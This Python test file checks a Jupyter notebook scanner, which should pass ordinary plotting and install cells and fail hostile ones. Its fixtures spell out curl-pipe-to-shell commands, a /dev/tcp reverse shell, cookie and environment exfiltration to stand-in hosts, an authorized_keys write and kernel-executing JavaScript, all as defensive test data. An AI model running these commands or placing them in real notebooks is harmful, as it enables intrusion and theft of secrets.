"""Notebooks may plot; what plots never do is found, in outputs, shell lines and cells."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.measure.inspection.conftest import BY_ID, opened, put
from tests.strategies import json_values, mutated

from basanite.domain.answer import Answer
from basanite.domain.outcome import Outcome

Ask = Callable[..., Answer]
CHECK = "notebook-content"


def notebook(*cells: dict[str, Any], kernel: str = "python3") -> str:
    document = {"nbformat": 4, "metadata": {"kernelspec": {"name": kernel}}, "cells": cells}
    return json.dumps(document)


def code(source: str, *outputs: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "outputs": outputs, "metadata": metadata}


def shows(text: str, mime: str = "text/html") -> dict[str, Any]:
    return code("plot()", {"output_type": "display_data", "data": {mime: [text]}})


BOKEH = (
    "const cmd = 'import bokeh.io.notebook; bokeh.io.notebook.destroy_server(\"a\")';"
    "Jupyter.notebook.kernel.execute(cmd, callbacks);"
)
COLAB = (
    "<button onclick=\"convertToInteractive('df-1')\"></button><script>async function "
    "convertToInteractive(k) { await google.colab.kernel.invokeFunction('convertToInteractive', "
    "[k], {}); }</script>"
)
PLOTLY = (
    "<div id='a'></div><script src=\"https://cdn.plot.ly/plotly-3.1.0.min.js\"></script>"
    "<script>Plotly.newPlot('a', [])</script>"
)
FOLIUM = (
    '<iframe srcdoc="&lt;script src=&quot;https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/'
    'leaflet.js&quot;&gt;&lt;/script&gt;"></iframe>'
)
ORDINARY = {
    "plotly": shows(PLOTLY),
    "bokeh": shows(BOKEH, "application/javascript"),
    "a table in Colab": shows(COLAB),
    "a map": shows(FOLIUM),
    "a video": shows('<iframe src="https://www.youtube.com/embed/a"></iframe>'),
    "a broken image": shows("<img src=a.png onerror=\"this.style.display='none'\">"),
    "a toggle": shows('<a href="javascript:code_toggle()">show</a>'),
    "a picture": shows("<svg><circle r='3'/></svg>", "image/svg+xml"),
    "words about handlers": {"cell_type": "markdown", "source": "set `onload = true` <b>now</b>"},
    "installing": code("!pip install -q numpy\n%pip install pandas==2"),
    "installing from a repository": code("!pip install git+https://github.com/some/library"),
    "fetching": code("!wget https://a.example/data.csv\n!curl -sS x | python -m json.tool"),
    "an installer": code("!wget https://a.example/Mini.sh && bash Mini.sh -b"),
    "a shell cell": code("%%bash\nset -e\nls -la | head"),
    "decoding a picture": code("import base64\nimage = base64.b64decode(text)\nimage"),
    "a hidden setting": code("size = 3", jupyter={"source_hidden": True}),
    "writing a module": code("%%writefile model.py\nimport os"),
}
KERNEL = "IPython.notebook.kernel.execute(\"import os; os.system('true')\")"
ENCODED = base64.b64encode(f"<script>{KERNEL}</script>".encode()).decode()
HOSTILE = {
    "a script that commands": (shows(f"<script>{KERNEL}</script>"), "kernel"),
    "an output that commands": (shows(KERNEL, "application/javascript"), "kernel"),
    "an image that commands": (shows(f"<img src=x onerror='{KERNEL}'>"), "kernel"),
    "an address that commands": (shows(f"<a href='javascript:{KERNEL}'>x</a>"), "kernel"),
    "a bokeh that commands": (shows(f"<script>bokeh; {KERNEL}</script>"), "kernel"),
    "an inner page that commands": (
        shows(f'<iframe srcdoc="&lt;script&gt;{KERNEL.replace(chr(34), "&quot;")}"></iframe>'),
        "kernel",
    ),
    "an encoded page that commands": (
        shows(f'<iframe src="data:text/html;base64,{ENCODED}"></iframe>'),
        "kernel",
    ),
    "a picture that commands": (
        shows(f"<svg><script>{KERNEL}</script></svg>", "image/svg+xml"),
        "kernel",
    ),
    "a text that commands": (
        {"cell_type": "markdown", "source": f"# Title\n<script>{KERNEL}</script>"},
        "kernel",
    ),
    "a cell of JavaScript": (code(f"%%javascript\n{KERNEL}"), "kernel"),
    "Python that shows one": (code(f"display(Javascript({KERNEL!r}))"), "kernel"),
    "a terminal": (shows("<script>fetch('/api/terminals', {method: 'POST'})</script>"), "server"),
    "stolen cookies": (
        shows("<script>fetch('https://a.example/?' + document.cookie)</script>"),
        "secrets",
    ),
    "a hidden script": (shows("<script>eval(atob('MQ=='))</script>"), "hidden-script"),
    "a handler that fetches": (shows("<img src=x onerror=\"fetch('x')\">"), "hidden-script"),
    "a script from a number": (shows("<script src='http://192.0.2.7/a.js'>"), "foreign-script"),
    "a piped command": (code("!curl -s http://a.example/x | sh"), "hostile-command"),
    "a command in a variable": (code("out = !curl -s http://a/x | sudo bash"), "hostile-command"),
    "a continued command": (code("!curl -s http://a.example/x \\\n | sh"), "hostile-command"),
    "a piped cell": (code("%%bash\nwget -qO- http://a.example/x | bash"), "hostile-command"),
    "a piped call": (
        code("import os\nos.system('curl http://a.example/x | sh')"),
        "hostile-code",
    ),
    "a reverse shell": (code("!bash -i >& /dev/tcp/192.0.2.7/1 0>&1"), "hostile-command"),
    "a decoded command": (code("!echo dHJ1ZQ== | base64 -d | sh"), "hostile-command"),
    "a written key": (code("%%writefile ~/.ssh/authorized_keys\nssh-rsa x"), "hostile-command"),
    "encoded code": (code("import base64\nexec(base64.b64decode('MQ=='))"), "hostile-code"),
    "a sent environment": (
        code("import os, requests\nrequests.post(u, json=dict(os.environ))"),
        "hostile-code",
    ),
}


@pytest.mark.parametrize("cell", ORDINARY.values(), ids=ORDINARY.keys())
def test_what_most_notebooks_hold_passes(ask: Ask, cell: dict[str, Any]) -> None:
    answer = ask(CHECK, notebook(cell), "a.ipynb")

    assert answer.outcome is Outcome.PASSED, answer.findings


@pytest.mark.parametrize(("cell", "rule"), HOSTILE.values(), ids=HOSTILE.keys())
def test_what_plots_and_lessons_never_do_fails(ask: Ask, cell: dict[str, Any], rule: str) -> None:
    answer = ask(CHECK, notebook(cell), "a.ipynb")

    assert answer.outcome is Outcome.FAILED
    assert answer.findings[0].rule.id == f"notebook-content/{rule}"


@pytest.mark.parametrize(
    "cell",
    [
        shows("<script src='https://unheard.example/a.js'></script>"),
        shows("<script>Jupyter.notebook.kernel.execute('x = 1')</script>"),
        code("!pip install http://a.example/b-1.0-py3-none-any.whl"),
    ],
)
def test_what_somebody_has_to_look_at_is_undecided(ask: Ask, cell: dict[str, Any]) -> None:
    assert ask(CHECK, notebook(cell), "a.ipynb").outcome is Outcome.UNDECIDED


def test_what_one_cell_hides_another_runs(ask: Ask) -> None:
    cells = [
        code("import base64\ntext = base64.b64decode('MQ==')"),
        code("x = 1"),
        code("exec(text)"),
    ]

    answer = ask(CHECK, notebook(*cells), "a.ipynb")

    assert answer.outcome is Outcome.FAILED
    assert answer.findings[0].message.startswith("Cell 3: exec")


def test_the_cells_of_a_shell_kernel_are_commands(ask: Ask) -> None:
    cell = code("curl http://a.example/x | sh")

    assert ask(CHECK, notebook(cell, kernel="bash"), "a.ipynb").outcome is Outcome.FAILED


def test_an_old_notebook_is_read_too(ask: Ask) -> None:
    cell = {"cell_type": "code", "input": "1", "outputs": [{"html": f"<script>{KERNEL}</script>"}]}
    document = {"nbformat": 3, "metadata": {}, "worksheets": [{"cells": [cell]}]}

    assert ask(CHECK, json.dumps(document), "a.ipynb").outcome is Outcome.FAILED


def test_a_hidden_cell_that_starts_programs_is_told(ask: Ask) -> None:
    cell = code("import os\nos.system('true')", jupyter={"source_hidden": True})

    answer = ask(CHECK, notebook(cell), "a.ipynb")

    assert [each.rule.id for each in answer.findings] == ["notebook-content/hidden-cell"]


PIECES = st.sampled_from(
    [
        "<script",
        ">",
        "</script>",
        "onload=",
        "'",
        '"',
        "javascript:",
        "kernel.execute(",
        "srcdoc=",
        "!",
    ]
)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(PIECES, max_size=30).map(lambda each: notebook(shows("".join(each))).encode())
    | json_values.map(
        lambda each: notebook({"cell_type": "code", "source": each, "outputs": each}).encode()
    )
    | mutated(notebook(shows(PLOTLY), code("!ls")).encode())
)
def test_hostile_notebooks_give_an_answer(data: bytes) -> None:
    assert put(opened(data, "a.ipynb"), BY_ID[CHECK], {}).outcome is not Outcome.ERROR


@pytest.mark.parametrize(
    "piece", ["<script", "onload='", 'srcdoc="', "<a href=javascript:", "!curl x "]
)
def test_time_grows_with_the_text_and_no_faster(ask: Ask, piece: str) -> None:
    answer = ask(CHECK, notebook(shows(piece * 30_000), code(piece * 30_000)), "a.ipynb")

    assert answer.outcome is not Outcome.ERROR
